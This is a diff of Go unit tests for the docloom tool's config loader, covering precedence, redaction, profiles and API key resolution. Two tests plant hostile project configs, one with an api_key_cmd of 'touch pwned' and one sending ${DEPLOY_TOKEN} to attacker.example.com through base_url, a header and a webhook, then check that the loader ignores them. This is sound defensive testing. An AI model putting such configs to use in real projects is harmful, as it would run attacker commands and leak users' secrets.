@@ -1,8 +1,19 @@
 package config
 
 import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
 	"os"
+	"path/filepath"
+	"strings"
 	"testing"
+
+	"github.com/santhosh-tekuri/jsonschema/v5"
+	"gopkg.in/yaml.v3"
+
+	"github.com/karolswdev/docloom/internal/secrets"
 )
 
 // TC-2.1: Test configuration loading with correct precedence
@@ -408,3 +419,575 @@ func findSubstring(s, substr string) int {
 	}
 	return -1
 }
+
+// Test loading values and notification webhooks from a YAML config file
+func TestConfig_Redacted(t *testing.T) {
+	webhook := "https://hooks.slack.com/services/T0/B0/secret"
+	cfg := &Config{
+		Model:        "gpt-4",
+		APIKey:       "sk-1234567890abcdef",
+		ExtraHeaders: map[string]string{"Authorization": "Bearer token"},
+		Notifications: NotificationsConfig{
+			Webhooks: []WebhookConfig{{URL: webhook, Type: "slack"}},
+		},
+	}
+
+	redacted := cfg.Redacted()
+	if redacted.Model != "gpt-4" {
+		t.Errorf("Expected model to be kept, got %s", redacted.Model)
+	}
+	if redacted.APIKey != RedactedValue {
+		t.Errorf("Expected API key to be redacted, got %s", redacted.APIKey)
+	}
+	if redacted.ExtraHeaders["Authorization"] != RedactedValue {
+		t.Errorf("Expected header value to be redacted, got %s", redacted.ExtraHeaders["Authorization"])
+	}
+	if redacted.ExtraQuery != nil {
+		t.Errorf("Expected unset query parameters to stay unset, got %v", redacted.ExtraQuery)
+	}
+	if got := redacted.Notifications.Webhooks[0]; got.URL != RedactedValue || got.Type != "slack" {
+		t.Errorf("Expected webhook URL to be redacted, got %+v", got)
+	}
+
+	// The original is unchanged
+	if cfg.APIKey != "sk-1234567890abcdef" || cfg.ExtraHeaders["Authorization"] != "Bearer token" || cfg.Notifications.Webhooks[0].URL != webhook {
+		t.Errorf("Expected the original config to be unchanged, got %+v", cfg)
+	}
+}
+
+func TestConfig_LoadFromFile(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "docloom.yaml")
+	content := `model: gpt-4o
+notifications:
+  link_base_url: https://docs.example.com
+  webhooks:
+    - url: https://hooks.slack.com/services/T000/B000/XXX
+      type: slack
+      on: [failure]
+extra_headers:
+  X-Org-Id: ${ORG_ID}
+extra_query:
+  route: eu
+prices:
+  llama-3-70b:
+    input: 0.6
+    output: 0.8
+budget: 2.5
+models:
+  llama-3-70b:
+    context_window: 8192
+    tools: true
+usage_log: .docloom/usage.jsonl
+`
+	if err := os.WriteFile(configPath, []byte(content), 0600); err != nil {
+		t.Fatalf("failed to write config file: %v", err)
+	}
+
+	cfg, err := Load(configPath, nil)
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+
+	if cfg.Model != "gpt-4o" {
+		t.Errorf("Model: expected gpt-4o, got %s", cfg.Model)
+	}
+	if cfg.MaxRetries != 3 {
+		t.Errorf("MaxRetries: expected default 3 to be preserved, got %d", cfg.MaxRetries)
+	}
+	if cfg.Notifications.LinkBaseURL != "https://docs.example.com" {
+		t.Errorf("LinkBaseURL: unexpected value %s", cfg.Notifications.LinkBaseURL)
+	}
+	if len(cfg.Notifications.Webhooks) != 1 || cfg.Notifications.Webhooks[0].Type != "slack" {
+		t.Fatalf("Webhooks: unexpected value %+v", cfg.Notifications.Webhooks)
+	}
+	if got := cfg.Notifications.Webhooks[0].On; len(got) != 1 || got[0] != "failure" {
+		t.Errorf("Webhook On: unexpected value %v", got)
+	}
+	if got := cfg.ExtraHeaders["X-Org-Id"]; got != "${ORG_ID}" {
+		t.Errorf("ExtraHeaders: expected the unresolved reference, got %q", got)
+	}
+	if got := cfg.ExtraQuery["route"]; got != "eu" {
+		t.Errorf("ExtraQuery: unexpected value %q", got)
+	}
+	if got := cfg.Prices["llama-3-70b"]; got != (ModelPrice{Input: 0.6, Output: 0.8}) {
+		t.Errorf("Prices: unexpected value %+v", got)
+	}
+	if got := cfg.Models["llama-3-70b"]; got != (ModelConfig{ContextWindow: 8192, Tools: true}) {
+		t.Errorf("Models: unexpected value %+v", got)
+	}
+	if cfg.Budget != 2.5 || cfg.UsageLog != ".docloom/usage.jsonl" {
+		t.Errorf("Budget and UsageLog: unexpected values %v, %q", cfg.Budget, cfg.UsageLog)
+	}
+}
+
+// Test that missing or malformed config files are reported
+func TestConfig_LoadFromFileErrors(t *testing.T) {
+	if _, err := Load(filepath.Join(t.TempDir(), "missing.yaml"), nil); err == nil {
+		t.Error("expected error for missing config file")
+	}
+
+	badPath := filepath.Join(t.TempDir(), "bad.yaml")
+	if err := os.WriteFile(badPath, []byte("model: [unterminated"), 0600); err != nil {
+		t.Fatalf("failed to write config file: %v", err)
+	}
+	if _, err := Load(badPath, nil); err == nil {
+		t.Error("expected error for malformed config file")
+	}
+}
+
+func TestConfig_OutputModes(t *testing.T) {
+	cfg := Config{OutputFileMode: "0644", OutputDirMode: "775"}
+	file, dir, err := cfg.OutputModes()
+	if err != nil {
+		t.Fatalf("OutputModes returned error: %v", err)
+	}
+	if file != 0644 || dir != 0775 {
+		t.Errorf("Expected 0644 and 0775, got %o and %o", file, dir)
+	}
+
+	file, dir, err = (&Config{}).OutputModes()
+	if err != nil || file != 0 || dir != 0 {
+		t.Errorf("Expected unset modes to be 0, got %o, %o, %v", file, dir, err)
+	}
+
+	for _, invalid := range []string{"rw-r--r--", "0888", "01777"} {
+		cfg := Config{OutputFileMode: invalid}
+		if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), "output_file_mode") {
+			t.Errorf("Expected %q to be rejected, got %v", invalid, err)
+		}
+	}
+}
+
+// Test that the user file, the project file and the environment apply in order
+func TestConfig_LoadUserAndProjectFiles(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	t.Setenv("DOCLOOM_MODEL", "")
+	t.Setenv("DOCLOOM_MAX_RETRIES", "5")
+	t.Setenv("TEST_DOCLOOM_KEY", "sk-from-env")
+	userFile := filepath.Join(home, "docloom", "config.yaml")
+	if UserConfigFile() != userFile {
+		t.Fatalf("UserConfigFile: expected %s, got %s", userFile, UserConfigFile())
+	}
+	if err := os.MkdirAll(filepath.Dir(userFile), 0755); err != nil {
+		t.Fatalf("failed to create user config directory: %v", err)
+	}
+	user := "model: gpt-4o\napi_key: ${TEST_DOCLOOM_KEY}\nowner: me\nextra_headers:\n  X-User: u\ninclude: [\"docs/**\"]\n"
+	if err := os.WriteFile(userFile, []byte(user), 0600); err != nil {
+		t.Fatalf("failed to write user config: %v", err)
+	}
+
+	project := t.TempDir()
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatalf("failed to get working directory: %v", err)
+	}
+	if err := os.Chdir(project); err != nil {
+		t.Fatalf("failed to change directory: %v", err)
+	}
+	t.Cleanup(func() { _ = os.Chdir(wd) })
+
+	// Without a project file, only the user file applies
+	cfg, err := Load("", nil)
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if len(cfg.Files) != 1 || cfg.Model != "gpt-4o" {
+		t.Errorf("expected the user file to apply, got files %v and model %s", cfg.Files, cfg.Model)
+	}
+
+	content := "model: gpt-4o-mini\nextra_headers:\n  X-Project: p\ninclude: [\"src/**\"]\n"
+	if err := os.WriteFile(ProjectConfigFile, []byte(content), 0600); err != nil {
+		t.Fatalf("failed to write project config: %v", err)
+	}
+	cfg, err = Load("", nil)
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if len(cfg.Files) != 2 || cfg.Files[0] != userFile || cfg.Files[1] != ProjectConfigFile {
+		t.Errorf("Files: unexpected value %v", cfg.Files)
+	}
+	if cfg.Model != "gpt-4o-mini" || cfg.Owner != "me" {
+		t.Errorf("expected the project file to override the user file, got model %s and owner %s", cfg.Model, cfg.Owner)
+	}
+	if len(cfg.ExtraHeaders) != 2 {
+		t.Errorf("ExtraHeaders: expected maps to merge, got %v", cfg.ExtraHeaders)
+	}
+	if len(cfg.Include) != 1 || cfg.Include[0] != "src/**" {
+		t.Errorf("Include: expected lists to be replaced, got %v", cfg.Include)
+	}
+	if cfg.APIKey != "sk-from-env" {
+		t.Errorf("APIKey: expected the environment reference to be expanded, got %q", cfg.APIKey)
+	}
+	if cfg.MaxRetries != 5 {
+		t.Errorf("MaxRetries: expected 5 from the environment, got %d", cfg.MaxRetries)
+	}
+
+	// An explicit file replaces the project file
+	explicit := filepath.Join(t.TempDir(), "ci.yaml")
+	if err := os.WriteFile(explicit, []byte("temperature: 0.2\n"), 0600); err != nil {
+		t.Fatalf("failed to write config file: %v", err)
+	}
+	cfg, err = Load(explicit, nil)
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if cfg.Model != "gpt-4o" || cfg.Temperature != 0.2 {
+		t.Errorf("expected the user and explicit files to apply, got model %s and temperature %v", cfg.Model, cfg.Temperature)
+	}
+}
+
+// Test that the project file found in the working directory cannot set api_key_cmd
+func TestConfig_ProjectFileCannotSetAPIKeyCmd(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	userFile := filepath.Join(home, "docloom", "config.yaml")
+	if err := os.MkdirAll(filepath.Dir(userFile), 0755); err != nil {
+		t.Fatalf("failed to create user config directory: %v", err)
+	}
+	user := "profiles:\n  gateway:\n    api_key_cmd: pass gateway\n"
+	if err := os.WriteFile(userFile, []byte(user), 0600); err != nil {
+		t.Fatalf("failed to write user config: %v", err)
+	}
+
+	project := t.TempDir()
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatalf("failed to get working directory: %v", err)
+	}
+	if err := os.Chdir(project); err != nil {
+		t.Fatalf("failed to change directory: %v", err)
+	}
+	t.Cleanup(func() { _ = os.Chdir(wd) })
+
+	content := "model: gpt-4o-mini\napi_key_cmd: touch pwned\nprofiles:\n  gateway:\n    base_url: https://gateway.example.com/v1\n    api_key_cmd: touch pwned\n  evil:\n    api_key_cmd: touch pwned\n"
+	if err := os.WriteFile(ProjectConfigFile, []byte(content), 0600); err != nil {
+		t.Fatalf("failed to write project config: %v", err)
+	}
+
+	cfg, err := Load("", nil)
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if cfg.Model != "gpt-4o-mini" {
+		t.Errorf("expected the project file to apply, got model %s", cfg.Model)
+	}
+	if cfg.APIKeyCmd != "" {
+		t.Errorf("APIKeyCmd: expected the project file to be ignored, got %q", cfg.APIKeyCmd)
+	}
+	if got := cfg.Profiles["gateway"]; got.APIKeyCmd != "pass gateway" || got.BaseURL != "" {
+		t.Errorf("gateway profile: expected the user's api_key_cmd and no base_url, got %+v", got)
+	}
+	if got := cfg.Profiles["evil"].APIKeyCmd; got != "" {
+		t.Errorf("evil profile: expected api_key_cmd to be ignored, got %q", got)
+	}
+	cfg, err = Load("", map[string]interface{}{"profile": "evil"})
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if cfg.APIKeyCmd != "" {
+		t.Errorf("APIKeyCmd: expected no command from the evil profile, got %q", cfg.APIKeyCmd)
+	}
+
+	// Passed explicitly, the same file is trusted
+	cfg, err = Load(ProjectConfigFile, nil)
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if cfg.APIKeyCmd != "touch pwned" {
+		t.Errorf("APIKeyCmd: expected the --config file to set it, got %q", cfg.APIKeyCmd)
+	}
+}
+
+func TestConfig_LoadFromEnvTypedValues(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	t.Setenv("DOCLOOM_TEMPERATURE", "0.3")
+	t.Setenv("DOCLOOM_SEED", "42")
+	t.Setenv("DOCLOOM_FORCE", "true")
+	t.Setenv("DOCLOOM_MAX_RETRIES", "many")
+
+	cfg, err := Load("", nil)
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if cfg.Temperature != 0.3 || cfg.Seed != 42 || !cfg.Force {
+		t.Errorf("unexpected values: temperature %v, seed %d, force %v", cfg.Temperature, cfg.Seed, cfg.Force)
+	}
+	if cfg.MaxRetries != 3 {
+		t.Errorf("MaxRetries: expected the invalid value to be ignored, got %d", cfg.MaxRetries)
+	}
+}
+
+func TestSchema(t *testing.T) {
+	schema := Schema()
+
+	// Every key is documented
+	var check func(path string, node map[string]interface{})
+	check = func(path string, node map[string]interface{}) {
+		for _, nested := range []string{"items", "additionalProperties"} {
+			if child, ok := node[nested].(map[string]interface{}); ok {
+				check(path, child)
+			}
+		}
+		properties, _ := node["properties"].(map[string]interface{})
+		for name, property := range properties {
+			property := property.(map[string]interface{})
+			if property["description"] == nil {
+				t.Errorf("key %s%s has no description", path, name)
+			}
+			check(path+name+".", property)
+		}
+	}
+	check("", schema)
+
+	data, err := json.Marshal(schema)
+	if err != nil {
+		t.Fatalf("failed to marshal schema: %v", err)
+	}
+	compiler := jsonschema.NewCompiler()
+	if err := compiler.AddResource(SchemaID, bytes.NewReader(data)); err != nil {
+		t.Fatalf("failed to add schema: %v", err)
+	}
+	compiled, err := compiler.Compile(SchemaID)
+	if err != nil {
+		t.Fatalf("failed to compile schema: %v", err)
+	}
+
+	valid := `model: gpt-4o
+api_key: ${OPENAI_API_KEY}
+provider: azure
+notifications:
+  webhooks:
+    - url: https://hooks.slack.com/services/T000/B000/XXX
+      type: slack
+      on: [failure]
+prices:
+  llama-3-70b: {input: 0.6, output: 0.8}
+trust:
+  policy: strict
+  keys:
+    - {name: platform-team, public_key: abc}
+schedules:
+  - {name: weekly, cron: "0 6 * * 1", type: architecture-vision, sources: [./docs], out: out.html}
+`
+	for content, expectValid := range map[string]bool{
+		valid:                          true,
+		"modle: gpt-4o\n":              false,
+		"temperature: warm\n":          false,
+		"trust:\n  policy: paranoid\n": false,
+	} {
+		var document interface{}
+		if err := yaml.Unmarshal([]byte(content), &document); err != nil {
+			t.Fatalf("failed to parse %q: %v", content, err)
+		}
+		err := compiled.Validate(document)
+		if expectValid && err != nil {
+			t.Errorf("expected %q to be valid: %v", content, err)
+		}
+		if !expectValid && err == nil {
+			t.Errorf("expected %q to be invalid", content)
+		}
+	}
+}
+
+func TestConfig_Profiles(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	t.Setenv("DOCLOOM_PROFILE", "")
+	t.Setenv("DOCLOOM_MODEL", "")
+	t.Setenv("TEST_GATEWAY_KEY", "sk-gateway")
+	configPath := filepath.Join(t.TempDir(), "docloom.yaml")
+	content := `model: gpt-4o
+temperature: 0.7
+profile: fast
+profiles:
+  fast:
+    model: gpt-4o-mini
+    max_tokens: 1024
+  quality:
+    model: gpt-4o
+    base_url: https://gateway.example.com/v1
+    api_key: ${TEST_GATEWAY_KEY}
+    temperature: 0
+  local:
+    model: llama3
+    base_url: http://localhost:11434
+    provider: ollama
+`
+	if err := os.WriteFile(configPath, []byte(content), 0600); err != nil {
+		t.Fatalf("failed to write config file: %v", err)
+	}
+
+	// The configured profile applies by default
+	cfg, err := Load(configPath, nil)
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if cfg.Profile != "fast" || cfg.Model != "gpt-4o-mini" || cfg.MaxTokens != 1024 || cfg.Temperature != 0.7 {
+		t.Errorf("unexpected fast profile settings: %+v", cfg)
+	}
+
+	// A selected profile overrides it, including a zero temperature
+	cfg, err = Load(configPath, map[string]interface{}{"profile": "quality"})
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if cfg.Profile != "quality" || cfg.BaseURL != "https://gateway.example.com/v1" || cfg.APIKey != "sk-gateway" || cfg.Temperature != 0 {
+		t.Errorf("unexpected quality profile settings: %+v", cfg)
+	}
+	if cfg.Redacted().Profiles["quality"].APIKey != RedactedValue {
+		t.Error("expected the profile API key to be redacted")
+	}
+
+	// CLI overrides apply on top of the profile
+	cfg, err = Load(configPath, map[string]interface{}{"profile": "local", "model": "mistral"})
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if cfg.Provider != "ollama" || cfg.Model != "mistral" {
+		t.Errorf("unexpected local profile settings: provider %s, model %s", cfg.Provider, cfg.Model)
+	}
+
+	_, err = Load(configPath, map[string]interface{}{"profile": "cheap"})
+	if err == nil || !strings.Contains(err.Error(), "configured: fast, local, quality") {
+		t.Errorf("expected an unknown profile error listing the profiles, got %v", err)
+	}
+}
+
+// fakeKeychain is an in-memory secrets.Keychain.
+type fakeKeychain map[string]string
+
+func (k fakeKeychain) Name() string { return "fake keychain" }
+
+func (k fakeKeychain) Get(ctx context.Context, account string) (string, error) {
+	if key, ok := k[account]; ok {
+		return key, nil
+	}
+	return "", secrets.ErrNotFound
+}
+
+func (k fakeKeychain) Set(ctx context.Context, account, secret string) error {
+	k[account] = secret
+	return nil
+}
+
+func (k fakeKeychain) Delete(ctx context.Context, account string) error {
+	delete(k, account)
+	return nil
+}
+
+func TestConfig_ResolveAPIKey(t *testing.T) {
+	keychain := fakeKeychain{"default": "sk-default", "gateway": "sk-gateway"}
+	original := newKeychain
+	newKeychain = func() (secrets.Keychain, error) { return keychain, nil }
+	t.Cleanup(func() { newKeychain = original })
+	ctx := context.Background()
+
+	// A configured key is kept
+	cfg := &Config{APIKey: "sk-literal", APIKeyKeychain: "gateway"}
+	if err := cfg.ResolveAPIKey(ctx); err != nil || cfg.APIKey != "sk-literal" {
+		t.Errorf("expected the literal key, got %q (%v)", cfg.APIKey, err)
+	}
+
+	// The command takes precedence over the keychain
+	cfg = &Config{APIKeyCmd: "echo sk-from-command", APIKeyKeychain: "gateway"}
+	if err := cfg.ResolveAPIKey(ctx); err != nil || cfg.APIKey != "sk-from-command" {
+		t.Errorf("expected the command's key, got %q (%v)", cfg.APIKey, err)
+	}
+
+	cfg = &Config{APIKeyKeychain: "gateway"}
+	if err := cfg.ResolveAPIKey(ctx); err != nil || cfg.APIKey != "sk-gateway" {
+		t.Errorf("expected the gateway key, got %q (%v)", cfg.APIKey, err)
+	}
+
+	// Without settings the default entry is used
+	cfg = &Config{}
+	if err := cfg.ResolveAPIKey(ctx); err != nil || cfg.APIKey != "sk-default" {
+		t.Errorf("expected the default key, got %q (%v)", cfg.APIKey, err)
+	}
+
+	// A missing default entry is not an error, a missing configured entry is
+	delete(keychain, "default")
+	cfg = &Config{}
+	if err := cfg.ResolveAPIKey(ctx); err != nil || cfg.APIKey != "" {
+		t.Errorf("expected no key and no error, got %q (%v)", cfg.APIKey, err)
+	}
+	cfg = &Config{APIKeyKeychain: "missing"}
+	if err := cfg.ResolveAPIKey(ctx); !errors.Is(err, secrets.ErrNotFound) {
+		t.Errorf("expected a not found error, got %v", err)
+	}
+
+	cfg = &Config{APIKeyCmd: "exit 1"}
+	if err := cfg.ResolveAPIKey(ctx); err == nil || !strings.Contains(err.Error(), "api_key_cmd") {
+		t.Errorf("expected an api_key_cmd error, got %v", err)
+	}
+}
+
+func TestConfig_ProjectFileCannotRedirectAPIKey(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", home)
+	t.Setenv("DEPLOY_TOKEN", "s3cret")
+	userFile := filepath.Join(home, "docloom", "config.yaml")
+	if err := os.MkdirAll(filepath.Dir(userFile), 0755); err != nil {
+		t.Fatalf("failed to create user config directory: %v", err)
+	}
+	user := "base_url: https://llm-gateway.example.com/v1\nextra_headers:\n  X-Team: ${DEPLOY_TOKEN}\n"
+	if err := os.WriteFile(userFile, []byte(user), 0600); err != nil {
+		t.Fatalf("failed to write user config: %v", err)
+	}
+
+	project := t.TempDir()
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatalf("failed to get working directory: %v", err)
+	}
+	if err := os.Chdir(project); err != nil {
+		t.Fatalf("failed to change directory: %v", err)
+	}
+	t.Cleanup(func() { _ = os.Chdir(wd) })
+
+	content := `model: gpt-4o-mini
+base_url: https://attacker.example.com/v1
+api_key: ${DEPLOY_TOKEN}
+embeddings:
+  base_url: https://attacker.example.com/v1
+extra_headers:
+  X-Leak: ${DEPLOY_TOKEN}
+  X-Project: payments
+notifications:
+  webhooks:
+    - url: https://attacker.example.com/hook?token=${DEPLOY_TOKEN}
+profile: evil
+profiles:
+  evil:
+    base_url: https://attacker.example.com/v1
+`
+	if err := os.WriteFile(ProjectConfigFile, []byte(content), 0600); err != nil {
+		t.Fatalf("failed to write project config: %v", err)
+	}
+
+	cfg, err := Load("", nil)
+	if err != nil {
+		t.Fatalf("Load returned error: %v", err)
+	}
+	if cfg.Model != "gpt-4o-mini" {
+		t.Errorf("expected the project file to apply, got model %s", cfg.Model)
+	}
+	if cfg.BaseURL != "https://llm-gateway.example.com/v1" {
+		t.Errorf("BaseURL: expected the user's base_url, got %q", cfg.BaseURL)
+	}
+	if cfg.Embeddings.BaseURL != "" {
+		t.Errorf("Embeddings.BaseURL: expected the project file to be ignored, got %q", cfg.Embeddings.BaseURL)
+	}
+	if len(cfg.Notifications.Webhooks) != 0 {
+		t.Errorf("Webhooks: expected the project file to be ignored, got %+v", cfg.Notifications.Webhooks)
+	}
+	if cfg.APIKey == "s3cret" {
+		t.Error("APIKey: expected no environment references to be expanded in the project file")
+	}
+	if _, ok := cfg.ExtraHeaders["X-Leak"]; ok {
+		t.Errorf("ExtraHeaders: expected the environment reference of the project file to be ignored, got %v", cfg.ExtraHeaders)
+	}
+	if cfg.ExtraHeaders["X-Project"] != "payments" || cfg.ExtraHeaders["X-Team"] != "${DEPLOY_TOKEN}" {
+		t.Errorf("ExtraHeaders: expected the user's and the project's plain headers, got %v", cfg.ExtraHeaders)
+	}
+}